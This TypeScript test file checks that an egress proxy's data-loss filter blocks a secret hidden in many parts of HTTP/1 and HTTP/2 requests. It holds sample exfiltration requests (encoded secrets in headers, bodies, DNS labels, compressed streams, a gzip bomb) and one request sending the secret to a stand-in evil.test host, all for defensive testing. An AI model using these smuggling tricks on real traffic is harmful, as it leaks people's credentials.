import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FakeEgress, startFakeEgress } from './support/fake-egress.ts';
import { openHttp2, openSocket, openTls, readUntil, requestHttp2, sendRaw } from './support/guest.ts';
import { secret, secretLabel, startTestPipelock, type TestPipelock } from './support/running-pipelock.ts';

let egress: FakeEgress;
let pipelock: TestPipelock;

beforeAll(async () => {
  egress = await startFakeEgress();
  pipelock = await startTestPipelock(egress.port);
});

afterAll(async () => {
  await pipelock[Symbol.asyncDispose]();
  await egress[Symbol.asyncDispose]();
});

const encodings: Readonly<Record<string, string>> = {
  raw: secret,
  base64: Buffer.from(`user:${secret}`).toString('base64'),
  base64url: Buffer.from(`u:${secret}`).toString('base64url'),
  hex: Buffer.from(secret).toString('hex'),
  'percent-encoded': encodeURIComponent(secret),
};

/** A harmless text in each place of the secret: the control. */
const harmless = 'k9-nothing-to-see-here';

const request = (lines: string, body = ''): string =>
  `${lines}\r\nHost: open.test\r\nConnection: close\r\n${body === '' ? '' : `Content-Length: ${Buffer.byteLength(body, 'latin1')}\r\n`}\r\n${body}`;

/** `text` in every place of a request that a guest can write; the URL takes none with a character that it may not hold. */
const places: Readonly<Record<string, (text: string) => string>> = {
  'the path': (text) => request(`GET /a/${encodeURIComponent(text)}/b HTTP/1.1`),
  'the path, encoded twice': (text) =>
    request(`GET /a/${encodeURIComponent(encodeURIComponent(text))} HTTP/1.1`),
  'the query': (text) => request(`GET /?q=${encodeURIComponent(text)} HTTP/1.1`),
  'the query, encoded twice': (text) =>
    request(`GET /?q=${encodeURIComponent(encodeURIComponent(text))} HTTP/1.1`),
  'a header value': (text) => request(`GET / HTTP/1.1\r\nX-Note: ${text}`),
  'a cookie': (text) => request(`GET / HTTP/1.1\r\nCookie: a=b; session=${text}`),
  'the user agent': (text) => request(`GET / HTTP/1.1\r\nUser-Agent: tool (${text})`),
  'an Authorization': (text) => request(`GET / HTTP/1.1\r\nAuthorization: Bearer ${text}`),
  'a body': (text) => request('POST / HTTP/1.1', `before ${text} after`),
  'a JSON key': (text) => request('POST / HTTP/1.1', JSON.stringify({ [text]: 1 })),
  'a file name of a form': (text) =>
    request('POST / HTTP/1.1', `--x\r\nContent-Disposition: form-data; filename="${text}"\r\n\r\na\r\n--x--`),
  'a body that lies about its type': (text) =>
    request('POST / HTTP/1.1\r\nContent-Type: image/png', `\x89PNG${text}`),
  'a chunked body': (text) => {
    const chunks = [...`..${text}..`].map((char) => `1\r\n${char}\r\n`).join('');
    return `POST / HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`;
  },
  'a trailer': (text) =>
    `POST / HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-Note: ${text}\r\n\r\n`,
};

const cases = Object.entries(places).flatMap(([place, write]) =>
  Object.entries(encodings)
    // A slash that is encoded twice makes a path ambiguous, and that is refused before.
    .filter(([encoding]) => !(place.startsWith('the path') && encoding === 'percent-encoded'))
    .filter(([encoding]) => !(place === 'the path, encoded twice' && !encoding.startsWith('hex')))
    .map(([encoding, text]) => [`${encoding} in ${place}`, write(text)] as const),
);

describe('a known secret over HTTP/1', () => {
  it.each(cases)('is refused: %s', async (_name, text) => {
    const before = egress.seen.length;
    const socket = await openTls(pipelock);
    const response = await sendRaw(socket, text);
    socket.destroy();
    expect(response).toMatchObject({ status: 403, headers: { 'x-bottle-block': 'dlp' } });
    expect(response.body).toContain(secretLabel);
    expect(response.body).not.toContain(secret);
    expect(egress.seen.length).toBe(before);
  });

  it.each(Object.entries(places))('leaves a harmless text alone: %s', async (_name, write) => {
    const socket = await openTls(pipelock);
    const response = await sendRaw(socket, write(harmless));
    socket.destroy();
    expect(response.status).toBe(200);
  });

  it.each([
    ['the whole', Buffer.from(secret).toString('hex')],
    ['cut by dots', Buffer.from(secret).toString('hex').replace(/.{10}/g, '$&.').replace(/\.$/, '')],
  ])('is refused in a host name: %s', async (_name, label) => {
    const host = `${label}.zone.test`;
    const socket = await openTls(pipelock, { authority: `${host}:443` });
    const response = await sendRaw(socket, `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    socket.destroy();
    expect(response).toMatchObject({ status: 403, headers: { 'x-bottle-block': 'dlp' } });
  });

  it('is nowhere in the log', async () => {
    const socket = await openSocket(pipelock.port);
    const hex = Buffer.from(secret).toString('hex');
    await sendRaw(
      socket,
      `GET http://${hex}.evil.test/${hex}?${hex} HTTP/1.1\r\nHost: ${hex}.evil.test\r\nConnection: close\r\n\r\n`,
    );
    socket.destroy();
    const text = JSON.stringify(pipelock.log);
    for (const form of Object.values(encodings)) expect(text).not.toContain(form);
    expect(pipelock.events('blocked').at(-1)).toMatchObject({
      scanner: 'allowlist',
      url: '[redacted]',
      reason: '[redacted]',
    });
  });

  it.each([
    ['url', 'dlp', `GET /?q=${encodeURIComponent(secret)} HTTP/1.1`, 'https://open.test/[redacted]'],
    ['header', 'header_dlp', `GET /a HTTP/1.1\r\nX-Note: ${secret}`, 'https://open.test/a'],
  ])("is logged with pipelock's label: %s", async (_name, scanner, lines, url) => {
    const socket = await openTls(pipelock);
    await sendRaw(socket, request(lines));
    socket.destroy();
    expect(pipelock.events('blocked').at(-1)).toMatchObject({
      scanner,
      url,
      layer: 'dlp',
      mitre_technique: 'T1048',
    });
  });
});

const compressed = {
  gzip: gzipSync,
  deflate: deflateSync,
  br: brotliCompressSync,
  zstd: zstdCompressSync,
} as const;

function withCoding(coding: string, body: Buffer): Buffer {
  const head = `POST / HTTP/1.1\r\nHost: open.test\r\nContent-Encoding: ${coding}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), body]);
}

describe('a compressed body', () => {
  const lines = Array.from({ length: 3000 }, (_, index) => `line ${index} ${index * 7919}`).join('\n');

  it.each(Object.entries(compressed))(
    'is unpacked for the scan and sent as it was: %s',
    async (coding, compress) => {
      for (const [text, status] of [
        [`${lines}${harmless}${lines}`, 200],
        [`${lines}${secret}${lines}`, 403],
      ] as const) {
        const body = compress(Buffer.from(text));
        const socket = await openTls(pipelock);
        const response = await sendRaw(socket, withCoding(coding, body));
        socket.destroy();
        expect(response.status).toBe(status);
        if (status === 200) expect(egress.seen.at(-1)?.body).toEqual(body);
        else expect(response.headers['x-bottle-block']).toBe('dlp');
      }
    },
  );

  it.each([
    ['an unknown coding', 'snappy', Buffer.from('abc')],
    ['two codings', 'gzip, gzip', gzipSync(gzipSync('abc'))],
    ['what is not what it says', 'gzip', Buffer.from('not gzip at all')],
    ['what ends in the middle', 'gzip', gzipSync('abc'.repeat(500)).subarray(0, 20)],
    ['a bomb', 'gzip', gzipSync(Buffer.alloc(20 * 1024 * 1024))],
    [
      'a secret behind the end of the packed part',
      'gzip',
      Buffer.concat([gzipSync('abc'), Buffer.from(secret)]),
    ],
  ])('is refused: %s', async (_name, coding, body) => {
    const socket = await openTls(pipelock);
    const response = await sendRaw(socket, withCoding(coding, body));
    socket.destroy();
    expect(response).toMatchObject({ status: 403, headers: { 'x-bottle-block': 'dlp' } });
  });
});

describe('a large body', () => {
  const filler = Buffer.from('lorem ipsum dolor sit amet, '.repeat(8000));

  it('streams through whole, byte for byte', async () => {
    const socket = await openTls(pipelock);
    const head = `POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: ${filler.length}\r\n\r\n`;
    socket.write(head);
    const response = await sendRaw(socket, filler);
    socket.destroy();
    expect(response.status).toBe(200);
    expect(egress.seen.at(-1)?.body.equals(filler)).toBe(true);
  });

  it.each([
    ['with a length', true],
    ['chunked', false],
  ])('that ends in a secret never arrives with it: %s', async (_name, hasLength) => {
    const body = Buffer.concat([filler, Buffer.from(secret), filler]);
    const framing = hasLength ? `Content-Length: ${body.length}` : 'Transfer-Encoding: chunked';
    const socket = await openTls(pipelock);
    socket.write(`POST / HTTP/1.1\r\nHost: open.test\r\n${framing}\r\n\r\n`);
    const whole = hasLength
      ? body
      : Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')]);
    const before = egress.received().length;
    const response = await sendRaw(socket, whole);
    socket.destroy();
    expect(response).toMatchObject({
      status: 403,
      headers: { 'x-bottle-block': 'dlp', connection: 'close' },
    });
    expect(egress.received().subarray(before).includes(secret.slice(0, 12))).toBe(false);
  });

  it.each([
    ['announced', `Content-Length: ${2 * 1024 * 1024}\r\n\r\n`, Buffer.alloc(0)],
    [
      'unannounced',
      'Transfer-Encoding: chunked\r\n\r\n',
      Buffer.concat([Buffer.from('200000\r\n'), Buffer.alloc(2 * 1024 * 1024)]),
    ],
  ])('beyond the bound is refused: %s', async (_name, framing, body) => {
    const socket = await openTls(pipelock);
    socket.write(`POST / HTTP/1.1\r\nHost: open.test\r\n${framing}`);
    const response = await sendRaw(socket, body);
    socket.destroy();
    expect(response).toMatchObject({
      status: 403,
      headers: { 'x-bottle-block': 'dlp', connection: 'close' },
    });
    expect(response.body).toContain('larger than');
  });

  it('is not asked for where the request is refused', async () => {
    const socket = await openTls(pipelock, { authority: 'narrow.test:443' });
    const head =
      'POST /v1/a HTTP/1.1\r\nHost: narrow.test\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n';
    const response = await sendRaw(socket, head);
    socket.destroy();
    expect(response).toMatchObject({
      status: 403,
      headers: { 'x-bottle-block': 'allowlist', connection: 'close' },
    });
  });

  it('is asked for where it is not', async () => {
    const socket = await openTls(pipelock);
    socket.write('POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n');
    expect(await readUntil(socket, (text) => text.endsWith('\r\n\r\n'))).toMatch(
      /^HTTP\/1\.1 100 Continue\r\n\r\n$/,
    );
    expect(await sendRaw(socket, 'hello')).toMatchObject({ status: 200 });
    socket.destroy();
    expect(egress.seen.at(-1)?.headers.expect).toBeUndefined();
  });
});

describe('a known secret over HTTP/2', () => {
  it.each([
    ['in a path', { ':path': `/?q=${encodeURIComponent(secret)}` }, null],
    ['in a header', { 'x-note': secret }, null],
    ['in crumbs of a cookie', { cookie: [`a=b`, `session=${secret}`] }, null],
    ['in a body', {}, `a=${secret}`],
  ])('is refused: %s', async (_name, headers, body) => {
    const before = egress.seen.length;
    const session = await openHttp2(pipelock);
    const response = await requestHttp2(session, headers, body);
    const control = await requestHttp2(session, {}, body === null ? null : harmless);
    session.destroy();
    expect(response).toMatchObject({ status: 403, headers: { 'x-bottle-block': 'dlp' } });
    expect(control.status).toBe(200);
    expect(egress.seen.length).toBe(before + 1);
  });
});
